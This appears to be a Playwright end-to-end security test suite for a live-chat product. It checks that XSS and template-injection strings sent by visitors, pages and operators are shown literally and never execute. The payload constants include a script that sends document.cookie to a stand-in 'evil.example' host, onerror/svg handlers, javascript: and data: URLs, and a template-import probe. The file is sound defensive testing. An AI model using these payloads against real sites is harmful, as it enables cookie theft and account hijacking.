"""Words from outside are words: whatever a visitor, a page or a colleague writes is shown literally and never runs."""

import json
import re
from urllib.parse import quote

from playwright.sync_api import Locator, expect

from tests.journeys.hosts import HostSite, snippet
from tests.journeys.house import House, write
from tests.journeys.people import OperatorWindow, VisitorWindow, Window

SCRIPT = "<script>window.ran = 1; fetch('//evil.example/' + document.cookie)</script>"
ATTRIBUTE = 'test"><img/src="x"/onerror="window.ran=1;alert(1)">'
TEMPLATE = "{{constructor.constructor('alert(1)')()}} ${7*7} {{7*7}} {%25 import os %25}"
SVG = '"><svg onload=alert(1)>'
MARKDOWN = "[x](javascript:alert(1)) ![x](data:text/html,<script>alert(1)</script>) java\tscript:alert(1)"
PAYLOADS = (SCRIPT, ATTRIBUTE, TEMPLATE, SVG, MARKDOWN)

# A client made by hand: what it says about its page, no browser would.
HAND_MADE = """([address, key, page, text]) => new Promise((done, failed) => {
    const socket = new WebSocket(address);
    socket.onopen = () => socket.send(JSON.stringify({type: 'authenticate', visitor_key: key, page}));
    socket.onerror = failed;
    socket.onmessage = ({data}) => {
        const event = JSON.parse(data);
        if (event.type === 'welcome_visitor')
            socket.send(JSON.stringify({type: 'start_chat', client_id: 'by-hand-1', text}));
        if (event.type === 'chat_opened') done();
        if (event.type === 'refused') failed(event.message);
    };
})"""


def nothing_ran(house: House, *windows: Window) -> None:
    for window in windows:
        assert window.page.evaluate("window.ran") is None
        assert window.page.locator("img[src='x'], svg[onload], [onerror]").count() == 0
    assert house.witness.dialogs == []
    # The console's policy would stop an injected script too; it must not even have had to.
    assert [said for said in house.witness.complaints if "Content Security Policy" in said] == []


def stands_literally(place: Locator, *texts: str) -> None:
    for text in texts:
        expect(place).to_contain_text(text)


def a_visitor_full_of_payloads(house: House, host: HostSite) -> tuple[VisitorWindow, str]:
    path = "/landing"
    title = f"<title>{SVG.replace('<', '&lt;')}</title>"
    host.puts(path, f"<body>{snippet(house.server.base_url, house.site()['public_key'])}", head=title)
    address = f"{host.origin}{path}?utm_source={quote(SVG)}&r=javascript:alert(1)#{quote(ATTRIBUTE)}"
    facts = {"name": ATTRIBUTE, "email": "vic@visitor.example"}
    context = house.context()
    calls = [["setVisitor", facts], ["setFields", {SVG: SCRIPT, "plan": TEMPLATE}]]
    context.add_init_script(f"window.Parlour = {json.dumps(calls)}")
    vic = VisitorWindow(context.new_page())
    vic.page.goto(address, referer=f"{host.origin}/from?q={quote(SVG)}")
    return vic.opens_chat().sees("We are online"), address


def test_a_visitors_words_are_shown_literally_in_every_view(house: House, host: HostSite) -> None:
    ada = house.operator("Ada")
    vic, address = a_visitor_full_of_payloads(house, host)
    vic.says(SCRIPT)
    stands_literally(ada.row(SCRIPT), SCRIPT)
    ada.takes(SCRIPT)
    vic.sees("is here for you").says(*PAYLOADS[1:])
    for payload in PAYLOADS:
        expect(ada.pane.locator(".said__bubble").filter(has_text=payload.strip())).to_have_count(1)
    ada.says(*PAYLOADS)
    expect(vic.panel.locator(".message")).to_have_count(2 * len(PAYLOADS))
    for author in ("visitor", "operator"):
        mine = [text for who, text in vic.said() if who == author]
        assert mine == list(PAYLOADS)

    stands_literally(ada.details, ATTRIBUTE, SCRIPT, TEMPLATE, SVG)
    link = ada.details.get_by_role("link").first
    expect(link).to_have_attribute("href", re.compile(re.escape(f"{host.origin}/landing")))
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    vic.writes(ATTRIBUTE)
    ada.sees(f"{ATTRIBUTE} is writing")
    vic.ends_chat().rates("Poor", SCRIPT)
    stands_literally(ada.pane, SCRIPT)

    for word in ("alert", '"><svg', "{{7*7}}", "<script>"):
        ada.searches_archive(word)
        found = ada.page.get_by_role("region", name="Ended chats").get_by_role("listitem")
        expect(found.or_(ada.page.get_by_text("Nothing found")).first).to_be_visible()
        if found.count():
            found.first.get_by_role("link").click()
            stands_literally(ada.pane, ATTRIBUTE)
    vic.button("Start a new chat").click()
    vic.says("An ordinary word")
    ada.visits("Chats").takes("An ordinary word")
    ada.details.get_by_role("button").filter(has_text="alert").first.click()
    stands_literally(ada.page.get_by_role("region", name="Visitor details"), ATTRIBUTE)
    ada.button("End chat").click()
    stands_literally(ada.page.get_by_role("dialog"), ATTRIBUTE)
    assert address.startswith(host.origin)
    nothing_ran(house, ada, vic)


def test_addresses_that_are_no_web_addresses_are_no_links(house: House) -> None:
    ada = house.operator("Ada")
    maker = house.visitor()
    base = house.server.base_url.replace("http", "ws")
    page = {"url": "javascript:alert(1)", "title": SVG, "referrer": "javascript:alert(2)"}
    text = "javascript:alert(3) data:text/html,x vbscript:x https://fern.example/a?b=1."
    made = [f"{base}/realtime/v1/sites/{house.site()['public_key']}", "K" * 43, page, text]
    maker.page.evaluate(HAND_MADE, made)
    ada.takes("javascript:alert(3)")
    stands_literally(ada.details, "javascript:alert(1)", "javascript:alert(2)")
    expect(ada.details.get_by_role("link")).to_have_count(0)
    links = ada.pane.locator(".said__bubble").get_by_role("link")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("href", "https://fern.example/a?b=1")
    nothing_ran(house, ada)


def test_what_operators_say_about_themselves_is_shown_literally_too(house: House, host: HostSite) -> None:
    owner = house.signed_in("Ada")
    site = house.site()
    plain = {key: site[key] for key in ("name", "greeting", "offline_greeting", "form")}
    write(owner, "patch", "/api/v1/me", {"name": ATTRIBUTE[:60], "job_title": SVG, "motto": TEMPLATE[:60]})
    question = {"key": "topic", "label": SVG, "kind": "choice", "choices": [ATTRIBUTE, TEMPLATE], "is_required": False}
    house.change_site(name=ATTRIBUTE, greeting=SCRIPT, offline_greeting=SVG, form=[question])
    write(owner, "post", "/api/v1/operators/invitations", {"name": SCRIPT[:100], "email": "x@parlour.example"})
    ada, ben = house.operator("Ada"), house.operator("Ben")
    vic = house.visitor().opens_chat().sees(SCRIPT)
    stands_literally(vic.panel, ATTRIBUTE, SVG)
    vic.panel.get_by_role("combobox", name=SVG).select_option(ATTRIBUTE)
    vic.writes("Who are you?").button("Start chat").click()
    ada.takes("Who are you?").says("Me.")
    vic.hears("Me.").sees(ATTRIBUTE[:60])
    ben.sees(ATTRIBUTE[:60]).visits("Team")
    stands_literally(ben.page.locator("main"), ATTRIBUTE[:60], SVG, SCRIPT[:100])
    ada.visits("Settings")
    stands_literally(ada.page.get_by_role("region", name="Sites"), ATTRIBUTE)
    ada.goes_to("/console/profile")
    stands_literally(ada.page.get_by_role("region", name="What visitors see"), ATTRIBUTE[:60], SVG)
    nothing_ran(house, ada, ben, vic)
    house.change_site(**plain)
    write(owner, "patch", "/api/v1/me", {"name": "Ada Marlow", "job_title": "", "motto": ""})


def test_the_console_finds_nothing_under_an_address_that_is_none(house: House) -> None:
    ada: OperatorWindow = house.operator("Ada", "/console/chats/" + quote(SVG))
    ada.sees("This chat is not here")
    nothing_ran(house, ada)
